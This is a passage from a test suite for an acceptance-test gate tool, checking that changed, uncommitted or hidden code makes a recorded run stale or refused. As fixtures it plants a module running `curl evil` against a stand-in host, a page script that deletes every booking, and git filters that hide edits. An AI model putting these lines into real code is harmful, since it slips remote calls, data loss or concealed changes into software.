    expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(0);
    writeJson(at('specs/flags.json'), { checkoutEnabled: false });
    writeJson(at('results/x/cfg.json'), { retries: 0 });
    writeJson(at('specs/shop.json'), { ...EXAMPLE, id: 'shop', title: 'The shop, closed' });
    commitAll(dir, 'the flags, the config and the recipe the app reads changed after the run');
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).toBe(3);
    expect(reasons(r.stdout)[0]).toContain(
      `3 file(s) changed since ("${UAT}/results/x/cfg.json", "${UAT}/specs/flags.json", "${UAT}/specs/shop.json")`,
    );
  });

  it('#572 a page the app serves, kept in pages/ with the two lines a built page starts with, changed after the run: stale', async () => {
    const { dir } = played();
    const page = (script: string) =>
      `<!doctype html>\n<meta name="proofgate-uat-spec-sha256" content="${'0'.repeat(64)}">\n<h1>Book a table</h1><script>${script}</script>\n`;
    mkdirSync(join(dir, UAT, 'pages'), { recursive: true });
    writeFileSync(join(dir, UAT, 'pages/app.html'), page('/* v1: books the table */'));
    writeFileSync(
      join(dir, 'src/server.js'),
      `require('http').createServer((q, s) => s.end(require('fs').readFileSync(__dirname + '/../${UAT}/pages/app.html'))).listen(3000);\n`,
    );
    commitAll(dir, 'the app serves its UI from a file in the uat pages folder');
    writeJson(runFile(dir), bound(codeOf(dir)));
    commitAll(dir, 'a run of that code');
    expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(0);
    writeFileSync(join(dir, UAT, 'pages/app.html'), page('/* v2: deletes every booking */'));
    commitAll(dir, 'the UI the app serves changed after the run');
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect([r.code, reasons(r.stdout)[0]]).toEqual([3, expect.stringContaining(`"${UAT}/pages/app.html"`)]);
  });

  it("#572 a real record under another id (a built page copied to another recipe's page, a recipe, a run and a triage file each named by an id they do not hold) changed after the run: stale; a page there whose script was edited, not committed: uat build and uat serve record it as uncommitted", async () => {
    const { dir } = played();
    const at = (path: string) => join(dir, UAT, path);
    const built = async () => {
      expect((await cliCase(dir, ['uat', 'build', ID])).code).toBe(0);
      return readFileSync(at(`pages/uat-${ID}.html`), 'utf8');
    };
    writeFileSync(at('pages/uat-shop.html'), await built());
    writeJson(at('specs/shop.json'), { ...EXAMPLE, id: 'other', title: 'The shop' });
    writeJson(at(`results/shop/${RUN_ID}.json`), makeRun(EXAMPLE, ALL_PASS));
    writeJson(at('triage/shop.json'), triage([]));
    writeFileSync(
      join(dir, 'src/app.js'),
      `module.exports = ['pages/uat-shop.html', 'specs/shop.json', 'results/shop/${RUN_ID}.json', 'triage/shop.json'].map((f) => require('fs').readFileSync(__dirname + '/../${UAT}/' + f));\n`,
    );
    commitAll(dir, 'the app reads real records kept under names of its own');
    writeJson(runFile(dir), bound(codeOf(dir)));
    commitAll(dir, 'a run of that code');
    expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(0);
    // Each is again a real record under the same name; the page of the recipe itself, built again, is no code.
    writeFileSync(at('pages/uat-shop.html'), await built());
    writeJson(at('specs/shop.json'), { ...EXAMPLE, id: 'other', title: 'The shop, closed' });
    writeJson(at(`results/shop/${RUN_ID}.json`), { ...makeRun(EXAMPLE, ALL_PASS), revision: 13 });
    writeJson(at('triage/shop.json'), triage([], [{ ...WRITE_OK, at: '2026-11-29T11:30:00Z' }]));
    commitAll(dir, 'the records the app reads changed after the run');
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect([r.code, reasons(r.stdout)[0]]).toEqual([
      3,
      expect.stringContaining(
        `4 file(s) changed since ("${UAT}/pages/uat-shop.html", "${UAT}/results/shop/${RUN_ID}.json", "${UAT}/specs/shop.json", "${UAT}/triage/shop.json")`,
      ),
    ]);
    // The recipe's own page, its script edited and not committed: code the build and the server record as no commit's.
    const edited = (await built()).replace('<script>', '<script>fetch("/api/bookings", { method: "DELETE" });');
    commitAll(dir, 'the page built');
    writeFileSync(at(`pages/uat-${ID}.html`), edited);
    const note = `uncommitted changes to 1 file(s) of code ("${UAT}/pages/uat-${ID}.html")`;
    const again = await cliCase(dir, ['uat', 'build', ID]);
    expect([again.code, again.stdout]).toEqual([0, expect.stringContaining(note)]);
    writeFileSync(at(`pages/uat-${ID}.html`), edited);
    const { child, base, token } = await serve(dir, 0);
    try {
      const served = pageCode((await call(base, { headers: { 'x-proofgate-token': token } })).text);
      expect([served?.commit, served?.tree === codeOf(dir).tree]).toEqual([codeOf(dir).commit, false]);
    } finally {
      child.kill('SIGTERM');
      await exited(child);
    }
  });

  it('#296 a run whose commit the clone does not hold is stale, naming fetch-depth; a merge queue group compares only the files it changes', async () => {
    const { dir, tested } = played();
    // The tested commit rewritten away (amended, force-pushed): nothing shows the run's code is this one.
    writeJson(runFile(dir), bound({ commit: 'f'.repeat(40), tree: 'e'.repeat(40) }));
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect([r.code, r.stdout]).toEqual([3, expect.stringContaining('which is not in this clone (check out with `fetch-depth: 0`)')]);
    git(dir, 'checkout', '-q', 'HEAD', '--', runFile(dir));
    // The queue's base moved on (another file); the group's head merges the pull request onto it.
    const pr = head(dir);
    git(dir, 'checkout', '-q', '-b', 'queue', tested);
    writeFileSync(join(dir, 'other.ts'), 'export const other = 1;\n');
    commitAll(dir, 'merged ahead in the queue');
    const groupBase = head(dir);
    git(dir, 'merge', '-q', '--no-edit', pr);
    const groupHead = head(dir);
    const event = { merge_group: { base_sha: groupBase, head_sha: groupHead } };
    const env = { ...ENV_CANARIES, GITHUB_EVENT_NAME: 'merge_group' };
    const ok = await actionCase('uat-gate.js', dir, { id: ID, mode: 'gate', 'forbid-tester': 'octocat' }, { event, env });
    expect(ok.outputs).toMatchObject({ verdict: 'passed' });
    // The group's own change touching the code the run tested (a conflict resolved in the merge) is stale.
    writeFileSync(join(dir, 'src/app.ts'), 'export const total = 1;\n');
    commitAll(dir, 'resolved differently');
    const event2 = { merge_group: { base_sha: groupBase, head_sha: head(dir) } };
    const bad = await actionCase('uat-gate.js', dir, { id: ID, mode: 'gate', 'forbid-tester': 'octocat' }, { event: event2, env });
    expect(bad.outputs).toMatchObject({ verdict: 'stale' });
  });

  // Each untracked repository was asked by its name decoded: `caf\xe8` (edited since its commit) and
  // `caf\uFFFD` (clean) decode alike, so the clean one answered for both and the edit passed for code a run records.
  it('#639 a repository of its own named caf\\xe8, edited, beside a clean one named caf\\uFFFD: refused, its name not being UTF-8', async () => {
    const { dir } = played();
    const identity = ['-c', 'user.name=T', '-c', 'user.email=t@example.com'];
    // Each made under a name git can be given (git -C takes text), then renamed to its own.
    for (const name of [Buffer.from('caf\ufffd'), Buffer.from('caf\xe8', 'latin1')]) {
      const lib = join(dir, 'tools/lib');
      mkdirSync(lib, { recursive: true });
      writeFileSync(join(lib, 'f.ts'), 'export const f = 1;\n');
      git(lib, 'init', '-q');
      git(lib, ...identity, 'add', '-A');
      git(lib, ...identity, 'commit', '-q', '-m', 'first');
      renameSync(lib, Buffer.concat([Buffer.from(`${dir}/tools/`), name]));
    }
    writeFileSync(Buffer.from(`${dir}/tools/caf\xe8/f.ts`, 'latin1'), 'export const f = 2;\n');
    const r = await cliCase(dir, ['uat', 'build', ID]);
    expect(r.stdout + r.stderr).toContain('a repository of its own in the checkout has a name that is not valid UTF-8');
    expect(r.code).toBe(3);
  });

  it('#375 a repository of its own with no commit yet, left untracked in the checkout: its files are code no tree records, so no page is built or served for it (in the uat folder too); its first commit is code that runs, and its files edited or added since are refused, as in a submodule', async () => {
    const { dir } = played();
    const page = () => pageCode(readFileSync(join(dir, UAT, 'pages', `uat-${ID}.html`), 'utf8'));
    const identity = ['-c', 'user.name=T', '-c', 'user.email=t@example.com'];
    // Inside the uat folder too (#403): only its records are no code, and a repository is none.
    const notes = join(dir, UAT, 'notes');
    mkdirSync(notes, { recursive: true });
    git(notes, 'init', '-q');
    writeFileSync(join(notes, 'n.md'), 'a note\n');
    const inside = await cliCase(dir, ['uat', 'build', ID]);
    expect(inside.code).toBe(3);
    expect(inside.stdout + inside.stderr).toContain(`"${UAT}/notes": a repository of its own with no commit yet`);
    rmSync(notes, { recursive: true });
    // Outside it: a plugin folder the app may load, recorded by no tree; a run of it would pass for HEAD's code.
    const lib = join(dir, 'tools/lib');
    mkdirSync(lib, { recursive: true });
    git(lib, 'init', '-q');
    writeFileSync(join(lib, 'f.ts'), 'export const f = 1;\n');
    const refused = await cliCase(dir, ['uat', 'build', ID]);
    expect(refused.code).toBe(3);
    expect(refused.stdout + refused.stderr).toContain('"tools/lib": a repository of its own with no commit yet');
    git(lib, ...identity, 'add', '-A');
    git(lib, ...identity, 'commit', '-q', '-m', 'first');
    const again = await cliCase(dir, ['uat', 'build', ID]);
    expect(again.code).toBe(0);
    expect(again.stdout).toContain('uncommitted changes to 1 file(s) of code ("tools/lib")');
    expect(page()?.tree).not.toBe(codeOf(dir).tree);
    // A gitlink records the commit checked out, never the files: one edited since, or a file untracked in it, is refused.
    const refusedFor = async (what: string) => {
      const r = await cliCase(dir, ['uat', 'build', ID]);
      expect([what, r.code, r.stdout + r.stderr]).toEqual([
        what,
        3,
        expect.stringContaining(
          '"tools/lib": a repository of its own (a submodule, or a clone in the checkout) with changes no commit of it holds',
        ),
      ]);
    };
    writeFileSync(join(lib, 'f.ts'), 'export const f = 2;\n');
    await refusedFor('untracked clone, a file edited');
    git(lib, 'checkout', '-q', '--', 'f.ts');
    commitAll(dir, 'the library as a submodule');
    writeFileSync(join(lib, 'f.ts'), 'export const f = 3;\n');
    await refusedFor('submodule, a file edited');
    git(lib, 'checkout', '-q', '--', 'f.ts');
    writeFileSync(join(lib, 'g.ts'), 'export const g = 1;\n');
    await refusedFor('submodule, a file untracked');
    rmSync(join(lib, 'g.ts'));
    const clean = await cliCase(dir, ['uat', 'build', ID]);
    expect([clean.code, page()]).toEqual([0, codeOf(dir)]);
  });

  type After =
    | 'nothing'
    | 'the code after the run'
    | 'the base since'
    | 'code kept in the uat folder after the run'
    | "the app's flags linked in specs/, unchanged"
    | "the app's flags linked in specs/ after the run";
  /** A pull request squash-merged after its run, its branch deleted, `after` changed too: the gate and the action on the push. */
  async function squashed(after: After) {
    const dir = emptyRepo('proofgate-uat-squash-');
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    mkdirSync(join(dir, 'src'));
    writeFileSync(join(dir, 'src/app.ts'), 'export const total = (a: number, b: number) => a + b;\n');
    writeSpec(dir, EXAMPLE);
    commitAll(dir, 'the base');
    const main = git(dir, 'rev-parse', '--abbrev-ref', 'HEAD').trim();
    git(dir, 'checkout', '-q', '-b', 'feature');
    writeFileSync(join(dir, 'src/app.ts'), 'export const total = (a: number, b: number) => a - b;\n');
    if (after.startsWith("the app's flags")) {
      writeJson(join(dir, UAT, 'specs/flags.json'), { checkoutEnabled: true });
      symlinkSync(`../${UAT}/specs/flags.json`, join(dir, 'src/flags.json'));
    }
    commitAll(dir, 'the change');
    // The page built at the pull request's head: the code its run records.
    expect((await cliCase(dir, ['uat', 'build', ID])).code).toBe(0);
    const code = pageCode(readFileSync(join(dir, UAT, 'pages', `uat-${ID}.html`), 'utf8'));
    const { outside, ...committed } = codeOf(dir);
    expect(code).toMatchObject(committed);
    // The linked flags are code: in what the page records, not in outsideOf's (every file at a record's path left out).
    expect(code?.outside === outside).toBe(!after.startsWith("the app's flags"));
    writeJson(runFile(dir), bound(code));
    writeJson(triageFile(dir), triage([]));
    if (after === 'the code after the run') writeFileSync(join(dir, 'src/app.ts'), 'export const total = () => 0;\n');
    if (after === "the app's flags linked in specs/ after the run")
      writeJson(join(dir, UAT, 'specs/flags.json'), { checkoutEnabled: false });
    if (after === 'code kept in the uat folder after the run') {
      mkdirSync(join(dir, UAT, 'lib'), { recursive: true });
      writeFileSync(join(dir, UAT, 'lib/impl.js'), "module.exports = () => require('child_process').execSync('curl evil');\n");
    }
    commitAll(dir, 'acceptance run and triage');
    git(dir, 'checkout', '-q', main);
    if (after === 'the base since') {
      writeFileSync(join(dir, 'src/other.ts'), 'export const other = 1;\n');
      commitAll(dir, 'merged first');
    }
    git(dir, 'merge', '-q', '--squash', 'feature');
    git(dir, 'commit', '-q', '-m', 'the pull request, squashed');
    git(dir, 'branch', '-q', '-D', 'feature');
    git(dir, 'reflog', 'expire', '--expire=now', '--all');
    git(dir, 'gc', '-q', '--prune=now');
    expect(() => git(dir, 'cat-file', '-e', code!.commit)).toThrow();
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    const event = { after: head(dir), before: git(dir, 'rev-parse', 'HEAD~1').trim(), ref: `refs/heads/${main}` };
    const a = await actionCase(
      'uat-gate.js',
      dir,
      { id: ID, mode: 'gate' },
      { event, env: { ...ENV_CANARIES, GITHUB_EVENT_NAME: 'push' } },
    );
    expectNoCanary(sinks(a, [dir]));
    return { dir, r, a, code: code! };
  }
  /** A squashed run that must be stale: the reason says the code merged is not the code it tested. */
  async function expectStale(after: After) {
    const { dir, r, a, code } = await squashed(after);
    expect([after, r.code, reasons(r.stdout)[0]]).toEqual([
      after,
      3,
      expect.stringContaining(
        `which is not in this clone (check out with \`fetch-depth: 0\`), so it cannot be shown to be the code of ${head(dir).slice(0, 12)}: ${code.commit} may be a commit rewritten away, and its code (but the uat folder's records) is not ${head(dir).slice(0, 12)}'s`,
      ),
    ]);
    expect([after, a.outputs.verdict]).toEqual([after, 'stale']);
  }

  it('#346 a pull request squash-merged after its run, its branch deleted: on the push the run is of the code merged; a change after the run, or on the base since, is not', async () => {
    const { r, a } = await squashed('nothing');
    expect([r.code, r.stdout.split('\n')[0]]).toEqual([0, 'example-1.0.0: passed (run by Ana Test)']);
    expect(a.outputs.verdict).toBe('passed');
    await expectStale('the code after the run');
    await expectStale('the base since');
  });

  it('#403 code kept in the uat folder (a module the app loads): changed after the run, then squash-merged, stale; edited and not committed, a page built or served records a tree no commit has', async () => {
    await expectStale('code kept in the uat folder after the run');
    const { dir } = played();
    mkdirSync(join(dir, UAT, 'lib'), { recursive: true });
    writeFileSync(join(dir, UAT, 'lib/impl.js'), "module.exports = () => 'booking confirmed';\n");
    commitAll(dir, 'the app loads a module kept in the uat folder');
    writeFileSync(join(dir, UAT, 'lib/impl.js'), "module.exports = () => require('child_process').execSync('curl evil');\n");
    const built = await cliCase(dir, ['uat', 'build', ID]);
    expect(built.code).toBe(0);
    expect(built.stdout).toContain(`uncommitted changes to 1 file(s) of code ("${UAT}/lib/impl.js")`);
    expect(pageCode(readFileSync(join(dir, UAT, 'pages', `uat-${ID}.html`), 'utf8'))?.tree).not.toBe(codeOf(dir).tree);
  });

  it("#437 a file at a record's path that is no record (the app's flags in specs/ through a link) is code on every side: changed after the run then squash-merged, stale; edited and not committed, a page built records it as uncommitted", async () => {
    const { r } = await squashed("the app's flags linked in specs/, unchanged");
    expect(r.code).toBe(0);
    await expectStale("the app's flags linked in specs/ after the run");
    const { dir } = played();
    writeJson(join(dir, UAT, 'specs/flags.json'), { checkoutEnabled: true });
    symlinkSync(`../${UAT}/specs/flags.json`, join(dir, 'src/flags.json'));
    commitAll(dir, 'the app reads flags kept in specs/');
    writeJson(join(dir, UAT, 'specs/flags.json'), { checkoutEnabled: false });
    const built = await cliCase(dir, ['uat', 'build', ID]);
    expect(built.code).toBe(0);
    expect(built.stdout).toContain(`uncommitted changes to 1 file(s) of code ("${UAT}/specs/flags.json")`);
    expect(pageCode(readFileSync(join(dir, UAT, 'pages', `uat-${ID}.html`), 'utf8'))?.tree).not.toBe(codeOf(dir).tree);
  });

  it('#436 an edit git is told to hide (an index bit, a local clean filter): uat build and uat serve refuse the index bit naming the command that clears it, and record a filtered edit as uncommitted; a filter that round-trips is no edit', async () => {
    const edited = 'export const total = () => 0;\n';
    for (const bit of ['skip-worktree', 'assume-unchanged']) {
      const { dir } = played();
      git(dir, 'update-index', `--${bit}`, 'src/app.ts');
      writeFileSync(join(dir, 'src/app.ts'), edited);
      for (const args of [
        ['uat', 'build', ID],
        ['uat', 'serve', ID, '--port', '0'],
      ]) {
        const r = await cliCase(dir, args);
        expect([bit, args[1], r.code, r.stderr]).toEqual([
          bit,
          args[1],
          3,
          expect.stringContaining(`git update-index --no-${bit} -- src/app.ts`),
        ]);
      }
    }
    // A clean filter of the checkout's own (.git/info/attributes, .git/config) that gives git HEAD's file back; git status refreshed the index over the edit.
    const { dir } = played();
    writeFileSync(join(dir, '.git/info/attributes'), 'src/app.ts filter=hide\n');
    git(dir, 'config', 'filter.hide.clean', 'git show HEAD:src/app.ts');
    writeFileSync(join(dir, 'src/app.ts'), edited);
    git(dir, 'add', '-A');
    expect(git(dir, 'status', '--porcelain')).toBe('');
    const built = await cliCase(dir, ['uat', 'build', ID]);
    expect(built.stdout).toContain('uncommitted changes to 1 file(s) of code ("src/app.ts")');
    expect(pageCode(readFileSync(join(dir, UAT, 'pages', `uat-${ID}.html`), 'utf8'))?.tree).not.toBe(codeOf(dir).tree);
    // A filter whose checkout writes other bytes than the blob (as git-lfs does), the file as checked out: no edit.
    const { dir: lfs } = played();
    writeFileSync(join(lfs, '.git/info/attributes'), 'src/*.ts filter=rev\n');
    git(lfs, 'config', 'filter.rev.clean', 'rev');
    git(lfs, 'config', 'filter.rev.smudge', 'rev');
    writeFileSync(join(lfs, 'src/data.ts'), 'export const data = 1;\n');
    commitAll(lfs, 'a filtered file');
    expect(git(lfs, 'cat-file', 'blob', 'HEAD:src/data.ts')).toBe(';1 = atad tsnoc tropxe\n');
    writeFileSync(join(lfs, 'src/data.ts'), 'export const data = 1;\n');
    const clean = await cliCase(lfs, ['uat', 'build', ID]);
    expect([clean.code, clean.stdout]).toEqual([0, expect.not.stringContaining('uncommitted')]);
  });

  it("#460 a CR-only edit git cleans back to HEAD's blob (core.autocrlf, a `text eol=lf` attribute): uat build and uat serve record it as uncommitted; a file as a checkout writes it is no edit", async () => {
    const crlf = 'export const total = (a: number, b: number) => a + b;\r\n';
    const page = (dir: string) => pageCode(readFileSync(join(dir, UAT, 'pages', `uat-${ID}.html`), 'utf8'))?.tree;
    for (const how of ['autocrlf', 'attribute', 'attribute, git add', 'checked out'] as const) {
      const { dir } = played();
      if (how.startsWith('attribute')) writeFileSync(join(dir, '.git/info/attributes'), '*.ts text eol=lf\n');
      else git(dir, 'config', 'core.autocrlf', 'true');
      writeFileSync(join(dir, 'src/app.ts'), crlf);
      // A checkout under core.autocrlf writes these bytes itself, and git then knows them.
      if (how === 'checked out') git(dir, 'checkout', '--', 'src/app.ts');
      // git status then shows nothing: what a checkout would write tells.
      if (how === 'attribute, git add') git(dir, 'add', 'src/app.ts');
      expect(git(dir, 'diff', 'HEAD')).toBe('');
      const built = await cliCase(dir, ['uat', 'build', ID]);
      if (how === 'checked out') {
        expect([how, built.code, built.stdout, page(dir)]).toEqual([how, 0, expect.not.stringContaining('uncommitted'), codeOf(dir).tree]);
        continue;
      }
      expect([how, built.stdout]).toEqual([how, expect.stringContaining('uncommitted changes to 1 file(s) of code ("src/app.ts")')]);
      expect([how, page(dir)]).not.toEqual([how, codeOf(dir).tree]);
      if (how !== 'autocrlf') continue;
      const { child, base, token } = await serve(dir, 0);
      try {
        const served = pageCode((await call(base, { headers: { 'x-proofgate-token': token } })).text);
        expect([served?.commit, served?.tree]).toEqual([codeOf(dir).commit, page(dir)]);
      } finally {
        child.kill('SIGTERM');
        await exited(child);
      }
    }
  });

  it('#323 uat serve and uat build on a checkout with uncommitted changes (unstaged, staged, untracked): the run records the tree that ran, never passes as HEAD, and an edit mid-run is refused', async () => {
    const dirty: [string, (dir: string) => void][] = [
      ['unstaged', (dir) => writeFileSync(join(dir, 'src/app.ts'), 'export const total = (a: number, b: number) => a * b;\n')],
      [
        'staged',
        (dir) => {
          writeFileSync(join(dir, 'src/app.ts'), 'export const total = () => 0;\n');
          git(dir, 'add', 'src/app.ts');
        },
      ],
      ['untracked', (dir) => writeFileSync(join(dir, 'src/override.ts'), 'export const total = () => 42;\n')],
    ];
    for (const [kind, edit] of dirty) {
      const { dir } = played();
      const committed = codeOf(dir);
      edit(dir);
      const { child, base, token } = await serve(dir, 0);
      const post = async (run: unknown) => {
        const body = JSON.stringify(savedNow(run));
        const headers = { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body), 'x-proofgate-token': token };
        return (await call(`${base}api/run`, { method: 'POST', headers, body })).json as Record<string, unknown>;
      };
      let served: ReturnType<typeof pageCode>;
      try {
        served = pageCode((await call(base, { headers: { 'x-proofgate-token': token } })).text);
        // The page names the commit and the tree that runs: not HEAD's tree, which does not hold the edit.
        expect([kind, served?.commit]).toEqual([kind, committed.commit]);
        expect([kind, served?.tree]).not.toEqual([kind, committed.tree]);
        expect([kind, served?.outside]).not.toEqual([kind, committed.outside]);
        // A run claiming the clean HEAD is not what is served.
        expect(await post(bound(committed, { runId: 'run-head', finishedAt: null }))).toMatchObject({ saved: false, reason: 'code' });
        // The page's own run saves, and its later saves (the results folder changes at every tick) too.
        expect(await post(bound(served, { runId: 'run-dirty', finishedAt: null, revision: 1 }))).toMatchObject({ saved: true });
        expect(await post(bound(served, { runId: 'run-dirty', revision: 2 }))).toMatchObject({ saved: true });
        // An edit while the page is open, with no commit, changes the code under the run: refused.
        writeFileSync(join(dir, 'src/late.ts'), 'export const late = 1;\n');
        const moved = await post(bound(served, { runId: 'run-other', revision: 1 }));
        expect([kind, moved]).toMatchObject([kind, { saved: false, reason: 'code' }]);
        expect(String(moved.message)).toContain('uncommitted');
      } finally {
        child.kill('SIGTERM');
        await exited(child);
      }
      rmSync(join(dir, 'src/late.ts'));
      rmSync(runFile(dir));
      writeJson(triageFile(dir), triage([], [WRITE_OK], 'run-dirty'));
      // The run of uncommitted code is no run of HEAD, nor of the commit that later holds the edit.
      const r = await cliCase(dir, ['uat', 'gate', ID]);
      expect([kind, r.code, reasons(r.stdout)[0]]).toEqual([
        kind,
        3,
        expect.stringContaining(`the run was played on uncommitted changes to commit ${committed.commit.slice(0, 12)}`),
      ]);
      commitAll(dir, 'the edit committed after the run');
      expect([kind, (await cliCase(dir, ['uat', 'gate', ID])).code]).toEqual([kind, 3]);
      // uat build in a dirty checkout says so, and embeds the tree that runs.
      edit(dir);
      writeFileSync(join(dir, 'src/app.ts'), 'export const total = () => -1;\n');
      const built = await cliCase(dir, ['uat', 'build', ID]);
      expect(built.stdout).toContain('uncommitted changes');
      expect(pageCode(readFileSync(join(dir, UAT, 'pages', `uat-${ID}.html`), 'utf8'))?.tree).not.toBe(codeOf(dir).tree);
    }
  });
});

describe('#389 the author accepting their own work under a name with a symbol drawn as a letter', () => {
  it.each(['🅾ctocat', 'Octo©at'])('#389 a run by "%s" is refused under --forbid-tester octocat; another person passes', (tester) =>
    expectReadAs(tester, 'octocat', 'Octo Ana'),
  );
});

describe('#382 the author accepting their own work under a spelling only full case folding reads', () => {
  it.each(['J. Strauß', 'J. STRAUẞ'])('#382 a run by "%s" is refused under --forbid-tester jstrauss; another person passes', (tester) =>
    expectReadAs(tester, 'jstrauss', 'J. Straub'),
  );
});

describe('#425 a failure passed as triaged is named, never silent', () => {
  it('#425 uat gate and release-gate pass a product failure decided `fix` (the seed: every failure classified with a decision), and say it stays open', async () => {
    const dir = project();
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    writeJson(runFile(dir), makeRun(EXAMPLE, { ...ALL_PASS, E4: 'fail' }));
    writeJson(triageFile(dir), triage([{ expect: 'E4', class: 'product', decision: 'fix' }]));
    for (const args of [
      ['uat', 'gate', ID],
      ['uat', 'release-gate'],
    ]) {
      const r = await cliCase(dir, args);
      expect(r.code, r.stdout + r.stderr).toBe(0);
      expect(r.stdout).toContain('- stays open: E4 (failed) triaged product, decision fix: passed as triaged, not replayed\n');
    }
  });
});

describe('#474 a write check made before the step was played vouches for its write', () => {
  /** Ana's run (10:00–10:30) passes everything, S2's E2 and E3 answered at the times given (none: as format 1 saves them), its write check made at `checkAt`. */
  function checked(e2: string | undefined, e3: string | undefined, checkAt: string): string {
    const dir = project();
    const run = makeRun(EXAMPLE, ALL_PASS, { updatedAt: '2026-11-29T10:30:00.000Z', finishedAt: '2026-11-29T10:30:00.000Z' });
    for (const a of run.answers as { expect: string; at?: string }[]) {
      const at = a.expect === 'E2' ? e2 : a.expect === 'E3' ? e3 : undefined;
      if (at) a.at = at;
    }
    writeJson(runFile(dir), run);
    writeJson(triageFile(dir), triage([], [{ ...WRITE_OK, at: checkAt }]));
    return dir;
  }

  it.each([
    [
      'the repro: S2 played at 10:19 and 10:20, checked at 10:01 (it saw a row an earlier run left)',
      '2026-11-29T10:19:00Z',
      '2026-11-29T10:20:00Z',
      '2026-11-29T10:01:00Z',
      '2026-11-29T10:20:00Z',
    ],
    [
      'every answer of the step counts: E3 at 10:05 before the check at 10:10, E2 after it at 10:20',
      '2026-11-29T10:20:00Z',
      '2026-11-29T10:05:00Z',
      '2026-11-29T10:10:00Z',
      '2026-11-29T10:20:00Z',
    ],
    [
      'a step answered again: E3 set anew at 10:25 (the page stamps it again), the check at 10:15 between',
      '2026-11-29T10:06:00Z',
      '2026-11-29T10:25:00Z',
      '2026-11-29T10:15:00Z',
      '2026-11-29T10:25:00Z',
    ],
    [
      'answers with no time (format 1, older pages): the run finished at 10:30, the check at 10:25',
      undefined,
      undefined,
      '2026-11-29T10:25:00Z',
      '2026-11-29T10:30:00.000Z',
    ],
    [
      'one answer of the step with no time: the finish counts for it, not E2 at 10:10',
      '2026-11-29T10:10:00Z',
      undefined,
      '2026-11-29T10:20:00Z',
      '2026-11-29T10:30:00.000Z',
    ],
  ])('#474 %s: failed, the check named too early', async (_name, e2, e3, checkAt, played) => {
    const r = await cliCase(checked(e2, e3, checkAt), ['uat', 'gate', ID]);
    expect(r.code).toBe(1);
    expect(reasons(r.stdout)).toEqual([
      `- S2 writes and passed, but no write check is recorded: run its \`sql\` check read-only (\`uat verify\`) and record it in writeChecks of ${TF} (the one recorded was made before S2 was last answered, ${played}: it saw only what was there already, an earlier run's write)`,
    ]);
  });

  it.each([
    [
      'at the instant of the last answer, written with another offset',
      '2026-11-29T10:19:00Z',
      '2026-11-29T10:20:00.000Z',
      '2026-11-29T11:20:00+01:00',
    ],
    ['a second after the last answer', '2026-11-29T10:19:00Z', '2026-11-29T10:20:00Z', '2026-11-29T10:20:01Z'],
    ['at the finish of a run whose answers carry no time', undefined, undefined, '2026-11-29T10:30:00Z'],
  ])('#474 a check made %s counts: passed', async (_name, e2, e3, checkAt) => {
    const r = await cliCase(checked(e2, e3, checkAt), ['uat', 'gate', ID]);
    expect([r.code, reasons(r.stdout)]).toEqual([0, []]);
  });
});

describe('#475 a tester whose clock is fast (by less than the tools accept) starting while a failing run is played', () => {
  const CARA = 'run-cara';
  /** Ana (10:00–10:29, a right clock) fails E1; Cara's run, all passed, records the start given and a finish at 10:45. */
  function racing(caraStarted: string): string {
    const dir = project();
    const ana = { updatedAt: '2026-11-29T10:29:00.000Z', finishedAt: '2026-11-29T10:29:00.000Z' };
    writeJson(runFile(dir), makeRun(EXAMPLE, { ...ALL_PASS, E1: 'fail' }, ana));
    const cara = {
      runId: CARA,
      tester: 'Cara Test',
      startedAt: caraStarted,
      updatedAt: '2026-11-29T10:45:00.000Z',
      finishedAt: '2026-11-29T10:45:00.000Z',
    };
    writeJson(runFile(dir, CARA), makeRun(EXAMPLE, ALL_PASS, cara));
    writeJson(triageFile(dir), triage([], [WRITE_OK], CARA));
    return dir;
  }
  const mayOverlap = `- run ${RUN_ID} by "Ana Test" (2026-11-29T10:00:00.000Z to 2026-11-29T10:29:00.000Z) finished less than 10 min before the latest run ${CARA} started, so the runs may have overlapped (clocks may differ by 10 min), and disagrees: E1 failed there; play a new run starting 10 min or more after both finished`;

  it.each([
    ['Cara started at 10:22 by a clock 9 minutes fast: her run records 10:31', '2026-11-29T10:31:00.000Z'],
    ['a replay a few minutes after the failed run, on the same revision', '2026-11-29T10:33:00.000Z'],
    ['a start just inside the margin', '2026-11-29T10:38:59.999Z'],
  ])('#475 %s: failed, the runs may have overlapped, naming both', async (_name, started) => {
    const r = await cliCase(racing(started), ['uat', 'gate', ID]);
    expect(r.code).toBe(1);
    expect(reasons(r.stdout)).toEqual([mayOverlap]);
  });

  it('#475 a run started 10 minutes or more after the failed one finished replays over it: passed', async () => {
    const dir = racing('2026-11-29T10:39:00.000Z');
    expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(0);
    // The way out the message names: a new run once both finished, 10 minutes on.
    const flagged = racing('2026-11-29T10:31:00.000Z');
    const dan = {
      runId: 'run-dan',
      tester: 'Dan Test',
      startedAt: '2026-11-29T10:55:00.000Z',
      updatedAt: '2026-11-29T11:05:00.000Z',
      finishedAt: '2026-11-29T11:05:00.000Z',
    };
    writeJson(runFile(flagged, 'run-dan'), makeRun(EXAMPLE, ALL_PASS, dan));
    writeJson(triageFile(flagged), triage([], [{ ...WRITE_OK, at: '2026-11-29T11:06:00Z' }], 'run-dan'));
    const r = await cliCase(flagged, ['uat', 'gate', ID]);
    expect([r.code, reasons(r.stdout)]).toEqual([0, []]);
  });
});

describe('#594 a second witness of another spec revision: an edit to the recipe while a tester plays', () => {
  const BEA = 'run-20261129T100500Z-bbbb';
  /** Revision B: revision A (the example) with a full stop added to E5's text. */
  const B = structuredClone(EXAMPLE);
  B.steps[2].expect[1].text += '.';
  /** Ana answers revision A (`ana`: her times); the full stop is committed; Bea, started 10:05, passes revision B, triaged. */
  function edited(ana: Record<string, unknown>, statuses: Record<string, string> = { E1: 'fail' }): string {
    const dir = project();
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    writeJson(runFile(dir), makeRun(EXAMPLE, statuses, ana));
    writeSpec(dir, B);
